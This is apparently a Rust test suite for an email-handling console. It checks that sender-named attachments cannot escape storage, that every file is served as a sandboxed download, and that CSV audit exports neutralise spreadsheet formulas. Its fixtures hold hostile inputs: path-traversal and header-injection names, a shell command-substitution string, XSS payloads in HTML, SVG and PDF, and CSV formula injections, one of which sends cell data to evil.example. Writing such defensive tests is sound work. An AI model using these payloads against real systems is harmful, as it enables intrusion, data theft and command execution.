//! Files that strangers name and fill: they lie under names of our own, are handed out as files under harmless names, and
//! what is exported begins no formula.

use super::{
    at_work,
    hands::{PASSWORD, bytes_of, enters, files_below, gets, hired, plain, posts},
    percent,
};
use crate::{
    console::{Answer, Console},
    house::House,
    on_both,
};
use data_encoding::BASE64;
use std::{collections::BTreeSet, process::Stdio, time::Duration};

const LONG: Duration = Duration::from_mins(1);

/// What every name below holds, so that a file that got one of them is found wherever it lies.
const MARK: &str = "planted-by-a-stranger";

/// Names that lead somewhere else, end early, mean a device, or turn around while they are read.
fn names() -> Vec<String> {
    let m = MARK;
    vec![
        format!("../../../../{m}.txt"),
        format!("..\\..\\{m}.txt"),
        format!("/tmp/{m}.txt"),
        format!("\\\\server\\share\\{m}.txt"),
        format!("C:\\Windows\\{m}.txt"),
        format!("file:///tmp/{m}.txt"),
        format!("{m}.txt\0.png"),
        format!("a\r\nSet-Cookie: {m}=1"),
        format!("a\"; filename=\"{m}.html"),
        format!("\u{2024}\u{2024}/\u{2025}/{m}.txt"),
        format!("\u{ff0e}\u{ff0e}\u{ff0f}{m}.txt"),
        format!("%2e%2e%2f{m}.txt"),
        format!("{m}\u{202e}gnp.exe"),
        format!("{m}{}", "x".repeat(300)),
        format!("{m}{}.pdf", "\u{1f600}".repeat(100)),
        format!("~/.ssh/{m}"),
        format!("$(touch {m})`touch {m}`;|&"),
        "CON".to_owned(),
        "nul.txt".to_owned(),
        "COM1 .log".to_owned(),
        "..".to_owned(),
        ".".to_owned(),
        "...".to_owned(),
        ".htaccess".to_owned(),
        " ".to_owned(),
        "\u{feff}\u{200b}".to_owned(),
    ]
}

/// A mail with these files: name, type, content.
fn with_files(id: &str, files: &[(String, &str, &[u8])]) -> String {
    let part = |(name, kind, bytes): &(String, &str, &[u8])| {
        let name = percent(name);
        format!(
            "--p\r\nContent-Type: {kind}\r\nContent-Disposition: attachment; filename*=utf-8''{name}\r\n\
             Content-Transfer-Encoding: base64\r\n\r\n{}\r\n",
            BASE64.encode(bytes)
        )
    };
    format!(
        "From: Fiona <fiona@mail.example>\r\nTo: privacy@imagegen.example\r\nSubject: Files\r\nMessage-ID: <{id}@mail.example>\r\n\
         MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=p\r\n\r\n--p\r\nContent-Type: text/plain\r\n\r\n\
         Please delete my data.\r\n{}--p--\r\n",
        files.iter().map(part).collect::<String>()
    )
}

/// Where each file of the newest mail is handed out, as its case's page says.
async fn addresses(house: &House, console: &Console, cookie: &str) -> Vec<String> {
    let (case, message): (i64, i64) = house.rows("SELECT case_id, id FROM messages ORDER BY id DESC LIMIT 1").await[0];
    let page = gets(console, cookie, &format!("/cases/R-{case}")).await;
    let place = format!("/cases/R-{case}/files/{message}/");
    let found: BTreeSet<_> = page
        .body()
        .split(&place)
        .skip(1)
        .filter_map(|rest| rest.split('"').next())
        .map(|part| format!("{place}{part}"))
        .collect();
    let mut found: Vec<_> = found.into_iter().collect();
    found.sort_by_key(|path| path.rsplit('/').next().and_then(|part| part.parse::<i64>().ok()));
    found
}

/// It is handed out as a file, which nothing opens in the console's place.
fn is_only_a_file(answer: &Answer, what: &str) -> String {
    assert_eq!(answer.status, 200, "{what}: {}", answer.text);
    let disposition = answer.header("content-disposition").unwrap_or_else(|| panic!("{what} opens in place"));
    assert!(disposition == "attachment" || disposition.starts_with("attachment;"), "{what}: {disposition}");
    assert_eq!(answer.header("x-content-type-options"), Some("nosniff"), "{what}");
    let policy = answer.header("content-security-policy").unwrap_or_default();
    assert!(
        policy.starts_with("sandbox;") && policy.contains("default-src 'none'") && !policy.contains("allow-"),
        "{what}: {policy}"
    );
    assert_eq!(answer.header("cache-control"), Some("no-store"), "{what}");
    disposition.to_owned()
}

/// The parts of a header's value: what is quoted, and what is percent-encoded, decoded.
fn names_in(disposition: &str) -> Vec<String> {
    let quoted = disposition.split("filename=\"").nth(1).and_then(|rest| rest.split('"').next()).map(str::to_owned);
    let encoded = disposition.split("filename*=UTF-8''").nth(1).map(|text| {
        let (mut bytes, mut rest) = (Vec::new(), text.as_bytes());
        while let [first, tail @ ..] = rest {
            let pair = if *first == b'%' { tail.get(..2) } else { None };
            let byte = pair.and_then(|pair| u8::from_str_radix(std::str::from_utf8(pair).ok()?, 16).ok());
            bytes.push(byte.unwrap_or(*first));
            rest = if byte.is_some() { &tail[2..] } else { tail };
        }
        String::from_utf8(bytes).expect("a name is text")
    });
    quoted.into_iter().chain(encoded).collect()
}

on_both! {
    async fn s32_a_file_that_a_stranger_named_lies_nowhere_and_is_handed_out_under_a_harmless_name(house: House) {
        let (console, cookie, _) = at_work(&house).await;
        let names = names();
        let files: Vec<_> = names.iter().map(|name| (name.clone(), "application/octet-stream", name.as_bytes())).collect();
        house.receives(&with_files("names", &files)).await;
        // a second way to say a name
        let plain_names = "From: Fiona <fiona@mail.example>\r\nTo: privacy@imagegen.example\r\nSubject: More\r\nMessage-ID: <more@mail.example>\r\n\
             MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=p\r\n\r\n--p\r\n\r\nPlease delete my data.\r\n--p\r\n\
             Content-Type: application/x-thing; name=\"../../planted-by-a-stranger.sh\"\r\n\r\nx\r\n--p\r\nContent-Type: application/x-thing\r\n\
             Content-Disposition: attachment; filename=/etc/planted-by-a-stranger\r\n\r\nx\r\n--p--\r\n";
        for (mail, expected) in [(None, names.len()), (Some(plain_names), 2)] {
            if let Some(mail) = mail {
                house.receives(mail).await;
            }
            house.all_is_done(LONG).await;
            let addresses = addresses(&house, &console, &cookie).await;
            assert_eq!(addresses.len(), expected, "each of them can be fetched");
            for (n, path) in addresses.iter().enumerate() {
                let answer = gets(&console, &cookie, path).await;
                let disposition = is_only_a_file(&answer, path);
                if mail.is_none() {
                    assert_eq!(answer.body(), names[n], "what is in it is what was sent");
                }
                let offered = names_in(&disposition);
                assert_eq!(offered.len(), 2, "{disposition}");
                for name in offered {
                    let turns = |c: char| matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
                    assert!(!name.contains(['/', '\\']) && !name.chars().any(|c| c.is_control() || turns(c)), "{name:?}");
                    let device = name.split('.').next().unwrap_or_default().to_ascii_lowercase();
                    assert!(!["con", "nul", "com1"].contains(&device.trim()), "{name:?} is a device");
                    assert!(!name.is_empty() && !name.starts_with('.') && !name.ends_with('.') && name.chars().count() <= 150, "{name:?}");
                }
                assert!(disposition.is_ascii() && answer.header("set-cookie").is_none_or(|cookie| !cookie.contains(MARK)), "{}", answer.text);
            }
            // a part is a number, whatever else stands in its place
            let (place, _) = addresses[0].rsplit_once('/').expect("an address");
            let nothing = plain(&gets(&console, &cookie, &format!("{place}/99999")).await, "");
            assert_eq!(nothing.0, 404);
            for part in ["..", "%2e%2e", "..%2f..%2fkeys%2fmaster.key", "%2fetc%2fpasswd", "-1", "1%00", "%5c..%5c", "18446744073709551616"] {
                assert_eq!(plain(&gets(&console, &cookie, &format!("{place}/{part}")).await, ""), nothing, "{part}");
            }
        }
        console.stops().await;
        // nothing lies under a name of theirs: not in the house, not where the names lead to
        for file in files_below(house.folder.path()) {
            assert!(!file.to_string_lossy().contains(MARK), "{}", file.display());
        }
        let above = house.folder.path().ancestors().skip(1).map(std::path::Path::to_owned);
        for folder in above.chain(["/tmp", "/etc", "."].map(Into::into)) {
            let entries = std::fs::read_dir(&folder).into_iter().flatten().flatten();
            for entry in entries {
                assert!(!entry.file_name().to_string_lossy().contains(MARK), "{}", entry.path().display());
            }
        }
    }

    async fn s33_whatever_a_file_says_it_is_it_is_handed_out_as_a_file(house: House) {
        let (console, cookie, _) = at_work(&house).await;
        let script = b"<script>alert(document.domain)</script>";
        let svg = b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(1)</script></svg>";
        let png = b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89<script>alert(1)</script>";
        let polyglot = b"GIF89a/*<script>alert(1)</script>*/=1;";
        let files: Vec<(String, &str, &[u8])> = vec![
            ("page.html".into(), "text/html; charset=utf-7", script),
            ("page.xhtml".into(), "application/xhtml+xml", script),
            ("drawing.svg".into(), "image/svg+xml", svg),
            ("feed.xml".into(), "application/xml", svg),
            ("style.xsl".into(), "text/xsl", svg),
            ("paper.pdf".into(), "application/pdf", b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj"),
            ("code.js".into(), "text/javascript", b"alert(1)"),
            ("page.mht".into(), "application/x-mimearchive", script),
            ("old.hta".into(), "application/hta", script),
            ("film.swf".into(), "application/x-shockwave-flash", b"FWS\x09"),
            ("picture.png".into(), "text/html", png),
            ("picture.gif".into(), "text/html", polyglot),
            ("picture.jpg".into(), "image/jpeg", script),
            ("nothing".into(), "", script),
        ];
        house.receives(&with_files("kinds", &files)).await;
        house.all_is_done(LONG).await;
        let addresses = addresses(&house, &console, &cookie).await;
        assert_eq!(addresses.len(), files.len());
        for (path, (name, _, bytes)) in addresses.iter().zip(&files) {
            let headers = [("cookie", cookie.as_str())];
            // what a browser asks for a page, a picture, a script or a frame of it changes nothing
            for asked in ["document", "image", "script", "iframe", "object"] {
                let headers = [&headers[..], &[("sec-fetch-dest", asked), ("accept", "text/html,image/svg+xml")]].concat();
                let answer = console.send("GET", path, &headers, b"").await.expect("an answer");
                is_only_a_file(&answer, name);
                let kind = answer.header("content-type").unwrap_or_else(|| panic!("{name} has no type")).to_lowercase();
                for opens in ["html", "xml", "svg", "script", "text/", "pdf", "multipart", "flash", "hta"] {
                    assert!(!kind.contains(opens) || (opens == "pdf" && *name == "paper.pdf"), "{name} is handed out as {kind}");
                }
            }
            assert_eq!(bytes_of(&console, &cookie, path).await.1, *bytes, "{name} is what was sent");
            let head = console.send("HEAD", path, &headers, b"").await.expect("an answer");
            is_only_a_file(&head, name);
            assert_eq!(head.body(), "", "{name}");
        }
        // the only answers that a mail's own HTML is in are framed by a sandbox without any permission
        let html = "From: Hanna <hanna@mail.example>\r\nTo: privacy@imagegen.example\r\nSubject: HTML\r\nMessage-ID: <html@mail.example>\r\n\
             MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<p>Please delete my data.</p><script>alert(1)</script>\r\n";
        house.receives(html).await;
        house.all_is_done(LONG).await;
        let (case, message): (i64, i64) = house.rows("SELECT case_id, id FROM messages ORDER BY id DESC LIMIT 1").await[0];
        let framed = gets(&console, &cookie, &format!("/cases/R-{case}/messages/{message}/html")).await;
        let policy = framed.header("content-security-policy").unwrap_or_default();
        assert!(framed.status == 200 && policy.starts_with("sandbox;") && !policy.contains("allow-"), "{policy}");
        assert!(framed.body().contains("Please delete my data.") && !framed.body().contains("script"), "{}", framed.body());
        console.stops().await;
    }
}

/// What begins a formula, in front of what one does.
pub const FORMULAS: [&str; 9] = [
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\u{ff1d}1+1",
    "'=1+1",
    "=1,2\r\n=3,\"4\"",
];

/// The cells of a CSV file, line by line.
fn cells(csv: &[u8]) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(csv);
    reader.records().map(|line| line.expect("RFC 4180").iter().map(str::to_owned).collect()).collect()
}

/// Every line has as many cells as the first, and no cell begins a formula.
pub fn is_sound(csv: &[u8], columns: usize, what: &str) -> Vec<Vec<String>> {
    let lines = cells(csv);
    assert!(lines.len() > FORMULAS.len(), "{what}: {} lines", lines.len());
    for line in &lines {
        assert_eq!(line.len(), columns, "{what}: {line:?}");
        for cell in line {
            let begins = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'];
            assert!(!cell.starts_with(begins), "{what}: {cell:?} is a formula");
        }
    }
    lines
}

on_both! {
    async fn s34_no_name_becomes_a_formula_in_what_is_exported(house: House) {
        hired(&house, "lead", &["--role", "lead", "--role", "responder"]).await;
        let (console, _, reference) = at_work(&house).await;
        let cookie = enters(&console, "lead").await;
        for (number, name) in FORMULAS.iter().enumerate() {
            let email = format!("formula{number}@imagegen.example");
            let ended = house.run(
                &["admin", "create-user", "--email", &email, &format!("--name={name}"), "--role", "agent", "--password-stdin"],
                PASSWORD,
            ).await;
            // a name is one line; what stands around it is not part of it
            if name.chars().any(char::is_control) {
                assert_eq!(ended.code, Some(i32::from(name.trim().contains('\n'))), "{}", ended.says);
                continue;
            }
            assert_eq!(ended.code, Some(0), "{}", ended.says);
            // each of them does something that is written down under their name
            let theirs = enters(&console, &format!("formula{number}")).await;
            let noted = posts(&console, &theirs, &format!("/cases/{reference}"), &[("do", "note"), ("text", name)]).await;
            assert_eq!(noted.status, 303, "{}", noted.text);
            house.receives(&crate::house::request(number + 10).replace("From: Person", &format!("From: {}", name.replace(['\r', '\n', '"'], " ")))).await;
        }
        house.all_is_done(LONG).await;
        let answer = posts(&console, &cookie, "/audit", &[]).await;
        is_only_a_file(&answer, "the audit log");
        let shown = is_sound(answer.body().as_bytes(), 8, "the audit log");
        let said: BTreeSet<_> = shown.iter().map(|line| line[2].as_str()).collect();
        let harmless: Vec<_> = said.iter().filter(|who| who.starts_with('\'')).collect();
        let named = FORMULAS.iter().filter(|name| !name.chars().any(char::is_control)).count();
        assert!(harmless.len() == named && named >= 6, "their names stand there, each behind an apostrophe: {said:?}");
        // the same by command, with everything that is stored
        let mut command = house.command(&["audit", "export", "--format", "csv"]);
        let output = command.stdin(Stdio::null()).stdout(Stdio::piped()).output().await.expect("it runs");
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        let stored = is_sound(&output.stdout, 12, "the stored log");
        assert_eq!(stored.iter().filter(|line| line[6] == "note_added").count(), named, "{stored:?}");
        console.stops().await;
    }
}
